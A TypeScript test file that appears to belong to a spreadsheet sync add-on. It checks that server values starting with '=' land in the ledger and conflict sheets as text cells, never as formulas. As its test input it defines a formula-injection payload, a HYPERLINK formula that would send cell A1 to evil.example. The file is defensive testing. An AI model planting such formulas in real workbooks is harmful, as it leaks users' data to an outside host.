// Server values land in the workbook as text: a name starting with "=" is stored as a string (never a formula),
// with the text format, in the ledger and in the 冲突 sheet, so Excel or WPS keep it text even once edited.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { pullCommand, pushCommand } from "../../workbook/src/commands.js";
import { api, seed } from "../addon/helpers.js";
import { CONFLICTS, LEDGER, as, columns, editCells, readBook, removeTempWorkbooks, rowById, tempWorkbook } from "./helpers.js";

const CLERK = "clerk.hubin@addon.test";
const COORDINATOR = "coordinator@addon.test";
const LINK = '=HYPERLINK("http://evil.example/?c="&A1,"点此查看")';
const SUM = "=1+1";

describe("server text stays text in the workbook (湖滨街道)", () => {
  const file = tempWorkbook("湖滨台账.xlsx");
  let a: any;

  afterAll(removeTempWorkbooks);
  beforeAll(async () => {
    // Prepare: a record named like a formula, pulled; the clerk edits it; the coordinator changes it meanwhile
    [a] = await seed(CLERK, "hubin", 2, 100);
    expect((await api("PATCH", `/v1/outfalls/${a.id}`, CLERK, { name: LINK }, { "if-match": "1" })).status).toBe(200);
    await pullCommand(await as(CLERK, file));
    await editCells(file, [[rowById(await readBook(file), a.id).row, "plan", "我的方案"]]);
    expect((await api("PATCH", `/v1/outfalls/${a.id}`, COORDINATOR, { plan: SUM }, { "if-match": "2" })).status).toBe(200);
  });

  it("writes the formula-like name into the ledger as a text cell", async () => {
    // Act
    const book = await readBook(file);
    const sheet = book.getWorksheet(LEDGER)!;
    const cell = sheet.getRow(rowById(book, a.id).row).getCell(columns(sheet).get("name")!);
    // Assess
    expect(cell.type).toBe(3); // ExcelJS.ValueType.String
    expect(cell.value).toBe(LINK);
    expect(cell.numFmt).toBe("@");
  });

  it("writes the server's formula-like values into the 冲突 sheet as text cells", async () => {
    // Act
    const result = await pushCommand(await as(CLERK, file));
    const book = await readBook(file);
    const cells: { type: number; value: unknown; numFmt: string }[] = [];
    book.getWorksheet(CONFLICTS)!.eachRow((row) => row.eachCell((c) => cells.push({ type: c.type, value: c.value, numFmt: c.numFmt })));
    // Assess
    expect(result.push).toMatchObject({ conflict: 1 });
    expect(cells.filter((c) => c.type === 6)).toEqual([]); // no ExcelJS.ValueType.Formula anywhere
    for (const text of [LINK, SUM]) expect(cells.find((c) => c.value === text)).toMatchObject({ type: 3, numFmt: "@" });
  });
});
